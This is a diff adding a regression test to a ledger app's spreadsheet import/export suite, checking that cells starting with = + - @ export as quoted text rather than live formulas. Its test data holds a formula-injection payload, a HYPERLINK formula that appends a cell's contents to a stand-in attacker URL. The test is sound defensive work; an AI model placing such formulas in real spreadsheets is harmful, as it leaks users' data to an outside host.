@@ -120,6 +120,24 @@ def test_export_then_import_round_trips(users, ledger, fwd):
     assert snapshot(copy) == before
 
 
+def test_formula_looking_cells_export_as_text_and_import_back_unchanged(users, ledger, fwd):
+    """#13.6: a ledger cell starting with = + - @ was written as a live formula."""
+    staff = users.fwd_staff
+    texts = ['=HYPERLINK("http://evil.example/?"&B3,"详情")', "+1 清理", "-2 楼道", "@SUM(A1)"]
+    rows = [row(n, 问题描述=text, 整改措施="=1+1") for n, text in enumerate(texts, start=1)]
+    ledger_import(actor=staff, ledger=ledger, rows=rows)  # as typed on the page: text, not formulas
+    before = snapshot(ledger)
+    assert [r[4] for r in before] == texts
+    content = ledger_export(ledger=ledger, entries=entry_export_rows(staff, ledger, {}), base_url="http://x")
+    ws = load_workbook(io.BytesIO(content)).active
+    cells = [ws.cell(row=r, column=c) for r in range(3, 7) for c in (3, 5)]
+    assert all(c.data_type == "s" and c.quotePrefix for c in cells), [(c.value, c.data_type) for c in cells]
+    assert [ws.cell(row=r, column=3).value for r in range(3, 7)] == texts
+    result = ledger_import(actor=staff, ledger=ledger, file=content)
+    assert (result.created, result.updated, result.unchanged) == (0, 0, 4)
+    assert snapshot(ledger) == before
+
+
 def test_export_embeds_thumbnails_and_links(users, ledger):
     staff = users.fwd_staff
     ledger_import(actor=staff, ledger=ledger, file=sheet([row(1)]))
